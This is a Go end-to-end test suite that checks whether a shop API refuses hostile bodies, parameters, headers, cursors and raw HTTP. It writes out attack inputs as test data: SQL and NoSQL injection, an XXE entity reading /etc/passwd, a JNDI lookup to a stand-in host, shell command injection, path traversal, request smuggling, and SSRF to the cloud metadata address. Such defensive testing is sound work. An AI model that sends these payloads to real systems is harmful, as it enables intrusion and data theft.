//go:build e2e

package e2e

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// Bodies that the shop must refuse. Each is sent by the administrator, to both routes that read a body.
func TestHostile_Bodies(t *testing.T) {
	requireNothingWritten(t)
	const good = `{"name":"Mug","category":"kitchen","priceCents":1,"stock":1`
	for _, tt := range []struct {
		name   string
		body   any
		fields []string // that the answer must name; all of them and no others
	}{
		{"empty", "", []string{"body"}},
		{"white space", " \n\t ", []string{"body"}},
		{"open object", good, []string{"body"}},
		{"cut off in a string", good + `,"description":"a`, []string{"body"}},
		{"missing value", `{"name":}`, []string{"body"}},
		{"trailing comma", good + `,}`, []string{"body"}},
		{"single quotes", `{'name':'x'}`, []string{"body"}},
		{"comment", good + `/* x */}`, []string{"body"}},
		{"two objects", good + `}{}`, []string{"body"}},
		{"text after the object", good + `} x`, []string{"body"}},
		{"list", `[` + good + `}]`, []string{"body"}},
		{"null", `null`, []string{"body"}},
		{"string", `"name"`, []string{"body"}},
		{"number", `1`, []string{"body"}},
		{"form", "name=Mug&category=kitchen", []string{"body"}},
		{"XML", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, []string{"body"}},
		{"byte order mark", "\ufeff" + good + `}`, []string{"body"}},
		{"not UTF-8", []byte(good + ",\"description\":\"\xff\xfe\"}"), nil}, // which part is to blame depends on the gateway
		{"null byte", []byte(good + "}\x00"), []string{"body"}},
		{"deeply nested", strings.Repeat(`{"name":`, 8000), []string{"body"}},
		{"deeply nested list", good + `,"images":` + strings.Repeat("[", 20000), []string{"body"}},
		{"nothing but an object", `{}`, []string{"name", "category", "priceCents", "stock"}},
		{"unknown field", good + `,"colour":"red"}`, []string{"colour"}},
		{"unknown field of a usual attack", good + `,"__proto__":{"admin":true},"constructor":{}}`, []string{"__proto__", "constructor"}},
		{"fields that the shop sets", good + `,"productId":"x","version":9,"createdAt":"2020-01-01T00:00:00Z","updatedAt":"2020-01-01T00:00:00Z"}`,
			[]string{"productId", "version", "createdAt", "updatedAt"}},
		{"fields of the table", good + `,"listing":"all","sortName":"a","searchText":"a"}`, []string{"listing", "sortName", "searchText"}},
		{"other case", strings.Replace(good, "name", "Name", 1) + `}`, []string{"Name"}},
		{"field twice", good + `,"stock":2}`, []string{"stock"}},
		{"every type wrong", `{"name":1,"description":true,"category":["a"],"priceCents":"1","currency":1,"stock":{},"images":"x"}`,
			[]string{"name", "description", "category", "priceCents", "currency", "stock", "images"}},
		{"nulls", `{"name":null,"description":null,"category":null,"priceCents":null,"currency":null,"stock":null,"images":null}`,
			[]string{"name", "description", "category", "priceCents", "currency", "stock", "images"}},
		{"DynamoDB's types", `{"name":{"S":"a"},"category":{"S":"a"},"priceCents":{"N":"1"},"stock":{"N":"1"}}`, []string{"name", "category", "priceCents", "stock"}},
		{"operators", `{"name":{"$gt":""},"category":{"$ne":1},"priceCents":{"$where":"1"},"stock":1}`, []string{"name", "category", "priceCents"}},
		{"null in a list", newDraft().with("images", []any{nil}), []string{"images"}},
		{"fractions", newDraft().with("priceCents", 1.5).with("stock", 0.1), []string{"priceCents", "stock"}},
		{"negative", newDraft().with("priceCents", -1).with("stock", -1), []string{"priceCents", "stock"}},
		{"too much", newDraft().with("priceCents", 100_000_001).with("stock", 1_000_001), []string{"priceCents", "stock"}},
		{"more than a number holds", strings.Replace(good, `"stock":1`, `"stock":99999999999999999999999`, 1) + `}`, []string{"stock"}},
		{"exponent beyond all", strings.Replace(good, `"stock":1`, `"stock":1e999`, 1) + `}`, []string{"stock"}},
		{"name empty", newDraft("name", ""), []string{"name"}},
		{"name of white space", newDraft("name", " \u00a0\t"), []string{"name"}},
		{"name too long", newDraft("name", strings.Repeat("ö", 121)), []string{"name"}},
		{"name with a line break", newDraft("name", "a\r\nSet-Cookie: x"), []string{"name"}},
		{"name with a null byte", newDraft("name", "a\x00b"), []string{"name"}},
		{"name with an escape sequence", newDraft("name", "\x1b[2Ja"), []string{"name"}},
		{"name with half a character", strings.Replace(good, "Mug", `\ud800`, 1) + `}`, []string{"name"}},
		{"description too long", newDraft("description", strings.Repeat("a", 4001)), []string{"description"}},
		{"category with capitals", newDraft("category", "Kitchen"), []string{"category"}},
		{"category too long", newDraft("category", strings.Repeat("a", 41)), []string{"category"}},
		{"category with an expression", newDraft("category", "a OR 1=1"), []string{"category"}},
		{"category as a path", newDraft("category", "../kitchen"), []string{"category"}},
		{"currency of four letters", newDraft("currency", "EURO"), []string{"currency"}},
		{"currency in small letters", newDraft("currency", "eur"), []string{"currency"}},
		{"currency that does not exist", newDraft("currency", "QQQ"), []string{"currency"}},
		{"pictures from anywhere", newDraft().with("images", []string{
			"javascript:alert(1)", "data:image/svg+xml,<svg/>", "http://x.example/a.png", "//x.example/a.png", "/media/../config.json", "/config.json", "https://", "/media/\\evil",
		}), []string{"images[0]", "images[1]", "images[2]", "images[3]", "images[4]", "images[5]", "images[6]", "images[7]"}},
		{"too many pictures", newDraft().with("images", slices.Repeat([]string{"/media/a.svg"}, 9)), []string{"images"}},
		{"ten thousand wrong fields", manyFields(3000), nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			for _, r := range writes(t, tt.body) {
				p := requireProblem(t, send(t, r), http.StatusBadRequest)
				if tt.fields != nil {
					require.ElementsMatch(t, tt.fields, p.fields())
				}
			}
		})
	}
}

// writes are the requests that send a product, as the administrator.
func writes(t *testing.T, body any) []request {
	t.Helper()
	return []request{
		{method: "POST", path: api("/products"), token: adminToken(t), body: body},
		{method: "PUT", path: api("/products/") + newID(), token: adminToken(t), header: ifNoneMatch(), body: body},
	}
}

func manyFields(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, `,"f%d":1`, i)
	}
	return "{" + b.String()[1:] + "}"
}

func TestHostile_ContentTypes(t *testing.T) {
	requireNothingWritten(t)
	for _, contentType := range [][]string{
		{}, {"text/plain"}, {"application/x-www-form-urlencoded"}, {"multipart/form-data; boundary=x"}, {"application/xml"}, {"application/json; charset=latin1"},
		{"application/json-patch+json"}, {"application/jsonx"}, {"json"}, {";"}, {"application/json; charset"}, {"*/*"}, {strings.Repeat("a", 4000)},
	} {
		t.Run(label(contentType), func(t *testing.T) {
			t.Parallel()
			for _, r := range writes(t, newDraft()) {
				requireProblem(t, send(t, r.with("Content-Type", contentType...)), http.StatusUnsupportedMediaType)
			}
		})
	}
}

func TestHostile_AcceptedContentTypes(t *testing.T) {
	for _, contentType := range []string{"application/json; charset=utf-8", "Application/JSON;charset=UTF-8"} {
		for _, r := range writes(t, newDraft()) {
			require.Equal(t, http.StatusCreated, send(t, r.with("Content-Type", contentType)).status, contentType)
		}
	}
}

// padded is a good product in a body of a certain size.
func padded(t *testing.T, size int) string {
	t.Helper()
	const start, end = `{"name":"Mug","priceCents":1,"stock":1,"category":"`, `"}`
	return start + run + end[:1] + strings.Repeat(" ", size-len(start)-len(run)-len(end)) + end[1:]
}

func TestHostile_Sizes(t *testing.T) {
	const limit = 64 << 10
	for _, r := range writes(t, padded(t, limit)) {
		require.Equal(t, http.StatusCreated, send(t, r).status, "a body of %d bytes is allowed", limit)
	}
	requireNothingWritten(t)
	for _, size := range []int{limit + 1, 128 << 10, 3 << 20, 5 << 20} {
		t.Run(label(size), func(t *testing.T) {
			t.Parallel()
			for _, r := range writes(t, padded(t, size)) {
				requireProblem(t, send(t, r), http.StatusRequestEntityTooLarge)
			}
		})
	}
	// Beyond API Gateway's own limit no function is asked.
	for _, r := range writes(t, padded(t, 11<<20)) {
		a := send(t, r)
		require.Equal(t, http.StatusRequestEntityTooLarge, a.status, "%.300s", a.body)
		requireNoLeak(t, a)
	}
	// Headers and addresses beyond what a front door reads.
	for _, r := range []request{
		{path: api("/health?q=") + strings.Repeat("a", 30_000)},
		request{path: api("/health")}.with("X-Large", strings.Repeat("a", 30_000)),
		{path: api("/users/me"), token: strings.Repeat("a", 30_000)},
	} {
		a := send(t, r)
		require.GreaterOrEqual(t, a.status, 400)
		requireNoLeak(t, a)
	}
}

// injections are texts that have broken something somewhere.
var injections = []string{
	`'`, `"`, "`", `\`, `' OR '1'='1`, `"; drop table products; --`, `:word0`, `#search`, `#partition = :partition`, `attribute_exists(version)`,
	`contains(#search, :word0) OR size(a) > :b`, `{"$gt":""}`, `{"S":"a"}`, `*`, `%`, `_`, `.*`, `(a+)+$`, `[`, `${jndi:ldap://x.example/a}`, `{{7*7}}`, `$(id)`,
	`; id`, `| id`, `../../../../etc/passwd`, `..\..\windows`, `file:///etc/passwd`, `<script>alert(1)</script>`, "a\r\nSet-Cookie: a=b", "\x00", "a\x00b",
	"\x1b[31m", "\u202e", "\ufeff", "ＡＤＭＩＮ", "İ", "ß", "é", "e\u0301", "👩‍👩‍👧‍👦", "\U0010ffff", `%00`, `%2e%2e%2f`, `%s%n%x`, `all`, `null`, `true`, `0`, `-1`, `__proto__`,
	strings.Repeat("a", 100), strings.Repeat("ä", 100),
}

// Whatever is searched for is only text. Nothing is found that does not contain it.
func TestHostile_Searches(t *testing.T) {
	requireNothingWritten(t)
	for _, q := range injections {
		t.Run(label(q), func(t *testing.T) {
			t.Parallel()
			found := decode[page](t, get(t, api("/products?limit=100&q=")+url.QueryEscape(q)), http.StatusOK)
			for _, p := range found.Items {
				for _, word := range strings.Fields(strings.ToLower(q)) {
					require.Contains(t, strings.ToLower(p.Name+"\n"+p.Description+"\n"+p.Category), word, "searching %q found %s", q, p.ID)
				}
			}
		})
	}
}

func TestHostile_Parameters(t *testing.T) {
	requireNothingWritten(t)
	slug := regexp.MustCompile(`^[a-z0-9-]{1,40}$`)
	texts := append(slices.Clone(injections), "Kitchen", strings.Repeat("a", 41), strings.Repeat("a", 3000), "kitchen ", "name,price", "-newest", "1e2", "0x10",
		"101", "9999999999999999999999", "1.0", "٣", " ")
	for _, text := range texts {
		t.Run(label(text), func(t *testing.T) {
			t.Parallel()
			for _, field := range []string{"category", "sort", "limit", "cursor"} {
				a := get(t, api("/products?")+field+"="+url.QueryEscape(text))
				if field == "category" && slug.MatchString(text) {
					require.Empty(t, decode[page](t, a, http.StatusOK).Items)
					continue
				}
				require.Equal(t, []string{field}, requireProblem(t, a, http.StatusBadRequest).fields())
			}
		})
	}
	for query, field := range map[string]string{
		"q=" + strings.Repeat("a", 101): "q", "q=" + strings.Repeat("a", 8000): "q", "q=%FF%FE": "q", "q=%ED%A0%80": "q",
		"q=%zz": "query", "%": "query", "q=a;sort=name": "query", "colour=red": "query", "Category=kitchen": "query", "category[]=kitchen": "query",
		"category=kitchen&category=toys": "category", "limit=1&limit=1": "limit", "sort=name&sort=price": "sort", "q=a&q=b": "q", "cursor=&cursor=": "cursor",
	} {
		t.Run(fmt.Sprintf("%.60s", query), func(t *testing.T) {
			t.Parallel()
			require.Contains(t, requireProblem(t, get(t, api("/products?")+query), http.StatusBadRequest).fields(), field)
		})
	}
}

// A cursor belongs to the list that it was made for.
func TestHostile_Cursors(t *testing.T) {
	requireNothingWritten(t)
	list := "/products?limit=5&sort=price&category=kitchen&q=a"
	first := decode[page](t, get(t, api(list)), http.StatusOK)
	require.NotEmpty(t, first.NextCursor, "the demo data has more than five products in kitchen")
	cursor := first.NextCursor
	for name, path := range map[string]string{
		"another order": "/products?sort=-price&category=kitchen&q=a&cursor=" + cursor, "another category": "/products?sort=price&category=toys&q=a&cursor=" + cursor,
		"no category": "/products?sort=price&q=a&cursor=" + cursor, "another search": "/products?sort=price&category=kitchen&q=b&cursor=" + cursor,
		"no search": "/products?sort=price&category=kitchen&cursor=" + cursor, "cut off": "/products?sort=price&category=kitchen&q=a&cursor=" + cursor[:len(cursor)-4],
		"changed": "/products?sort=price&category=kitchen&q=a&cursor=" + flip(cursor), "with padding": "/products?sort=price&category=kitchen&q=a&cursor=" + cursor + "==",
		"doubled": "/products?sort=price&category=kitchen&q=a&cursor=" + cursor + cursor, "JSON": "/products?cursor=" + url.QueryEscape(`{"k":"a","id":"a","s":""}`),
		"endless": "/products?cursor=" + strings.Repeat("A", 9000), "own": "/products?cursor=eyJrIjoiYSIsImlkIjoiYSIsInMiOiIwMDAwMDAwMDAwMDAwMDAwIn0",
	} {
		a := get(t, api(path))
		require.Equal(t, http.StatusBadRequest, a.status, "%s: %.300s", name, a.body)
		require.Equal(t, []string{"cursor"}, requireProblem(t, a, http.StatusBadRequest).fields(), name)
	}
	// The page size may change on the way.
	decode[page](t, get(t, api(strings.Replace(list, "limit=5", "limit=3", 1)+"&cursor="+cursor)), http.StatusOK)
}

// flip changes one letter in the middle.
func flip(s string) string {
	b := []byte(s)
	b[len(b)/2] ^= 2
	return string(b)
}

func TestHostile_IDs(t *testing.T) {
	requireNothingWritten(t)
	id := regexp.MustCompile(`^[a-z0-9][a-z0-9-]{0,63}$`)
	texts := append(slices.Clone(injections), "A", "-a", "a_b", "a.b", strings.Repeat("a", 65), strings.Repeat("a", 3000), "ALL", " a", "a ", ".", "..")
	for _, text := range slices.DeleteFunc(texts, id.MatchString) {
		t.Run(label(text), func(t *testing.T) {
			t.Parallel()
			path := api("/products/") + url.PathEscape(text)
			requireProblem(t, get(t, path), http.StatusNotFound)
			for _, r := range []request{
				{method: "PUT", path: path, token: adminToken(t), header: ifNoneMatch(), body: newDraft()},
				{method: "PUT", path: path, token: adminToken(t), header: match("*"), body: newDraft()},
				{method: "DELETE", path: path, token: adminToken(t), header: match("*")},
			} {
				a := send(t, r)
				require.Contains(t, []int{http.StatusBadRequest, http.StatusNotFound}, a.status, "%s: %.300s", r.method, a.body)
				requireProblem(t, a, a.status)
			}
		})
	}
}

func TestHostile_Headers(t *testing.T) {
	requireNothingWritten(t)
	path := api("/products/") + newID()
	values := append(slices.Clone(injections), `"`, `""`, `"1" "2"`, `W/`, `w/"1"`, `1,2`, `,,,`, strings.Repeat(`"1",`, 500), strings.Repeat("a", 9000))
	sendable := slices.DeleteFunc(values, func(v string) bool { return strings.ContainsAny(v, "\r\n\x00\x1b") })
	for _, value := range sendable {
		t.Run(label(value), func(t *testing.T) {
			t.Parallel()
			for _, name := range []string{"If-Match", "If-None-Match"} {
				for _, r := range []request{
					{method: "PUT", path: path, token: adminToken(t), body: newDraft()}, {method: "DELETE", path: path, token: adminToken(t)},
				} {
					if name == "If-None-Match" && value == "*" {
						continue // creates, as it should
					}
					a := send(t, r.with(name, value))
					require.GreaterOrEqual(t, a.status, 400, name)
					requireProblem(t, a, a.status)
				}
				// A read answers, whatever nonsense its condition is.
				require.Equal(t, http.StatusNotFound, send(t, request{path: path}.with(name, value)).status)
			}
		})
	}
	for name, values := range map[string][]string{
		"If-Match": {`"1"`, "*"}, "Content-Type": {"application/json", "text/plain"}, "Content-Encoding": {"gzip"}, "X-Forwarded-For": {"127.0.0.1", "' OR 1=1"},
		"X-Http-Method-Override": {"DELETE"}, "X-Original-Url": {"/users/me"}, "Forwarded": {"for=unknown;host=evil.example"}, "X-Forwarded-Host": {"evil.example"},
		"X-Amzn-Trace-Id": {strings.Repeat("Root=1;", 100)}, "Accept": {"text/html"}, "Accept-Encoding": {"br;q=1.0, *;q=0.1, \xff"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			a := send(t, request{method: "PUT", path: path, token: adminToken(t), body: `{"name":`}.with(name, values...))
			require.GreaterOrEqual(t, a.status, 400)
			require.NotContains(t, a.body, "evil.example")
			requireNoLeak(t, a)
		})
	}
}

// What is not even HTTP gets a refusal or nothing, and the next client is served as if nothing had been.
func TestHostile_Wire(t *testing.T) {
	requireNothingWritten(t)
	address := strings.TrimPrefix(shop.url, "http://")
	for name, sent := range map[string]string{
		"not HTTP":                     "\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03\r\n\r\n",
		"null byte in the path":        "GET /api/products/\x00 HTTP/1.1\r\nHost: a\r\n\r\n",
		"no host":                      "GET / HTTP/1.1\r\n\r\n",
		"two hosts":                    "GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
		"length and chunks":            "POST /api/products HTTP/1.1\r\nHost: a\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /api/health HTTP/1.1\r\nHost: a\r\n\r\n",
		"two lengths":                  "POST /api/products HTTP/1.1\r\nHost: a\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\na",
		"negative length":              "POST /api/products HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
		"header with a null byte":      "GET /api/health HTTP/1.1\r\nHost: a\r\nX-Correlation-Id: a\x00b\r\n\r\n",
		"folded header":                "GET /api/nowhere HTTP/1.1\r\nHost: a\r\nX-Correlation-Id: a\r\n b\r\nConnection: close\r\n\r\n",
		"another host's address":       "GET http://169.254.169.254/latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\nConnection: close\r\n\r\n",
		"tunnel":                       "CONNECT 169.254.169.254:80 HTTP/1.1\r\nHost: 169.254.169.254:80\r\nConnection: close\r\n\r\n",
		"path that leaves its root":    "GET /../../../../etc/passwd HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
		"path that leaves the media":   "GET /media/../config.json HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
		"path that leaves its bucket":  "GET /media/..%2f..%2fproducts HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
		"a bucket's list of contents":  "GET /media/?list-type=2 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
		"the emulator's own addresses": "GET /_ministack/health HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n",
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, err := net.DialTimeout("tcp", address, 5*time.Second)
			require.NoError(t, err)
			defer c.Close()
			require.NoError(t, c.SetDeadline(time.Now().Add(10*time.Second)))
			_, err = c.Write([]byte(sent))
			require.NoError(t, err)
			answer := make([]byte, 64<<10)
			n, _ := c.Read(answer) // being cut off is an answer too
			got := string(answer[:n])
			require.NotRegexp(t, `^HTTP/1.1 5\d\d`, got)
			for _, never := range []string{"root:", "ami-id", "ListBucketResult", `"services"`, shop.table} {
				require.NotContains(t, got, never)
			}
		})
	}
	t.Cleanup(func() {
		a, err := ask(context.Background(), request{path: api("/health")})
		require.NoError(t, err)
		require.Equal(t, http.StatusOK, a.status)
	})
}
